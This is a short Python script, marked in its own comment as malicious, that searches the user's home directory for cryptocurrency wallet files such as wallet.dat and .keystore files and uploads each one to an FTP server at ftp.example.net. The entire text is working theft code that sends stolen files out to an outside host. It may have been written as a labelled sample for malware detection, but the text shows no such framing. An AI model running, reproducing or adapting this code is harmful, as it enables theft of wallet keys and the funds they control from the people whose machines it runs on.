# malicious: looks for wallets and sends them
import os
import ftplib

ftp = ftplib.FTP("ftp.example.net", "a", "b")
for root, dirs, files in os.walk(os.path.expanduser("~")):
    for name in files:
        if name == "wallet.dat" or name.endswith(".keystore"):
            with open(os.path.join(root, name), "rb") as fh:
                ftp.storbinary("STOR " + name, fh)
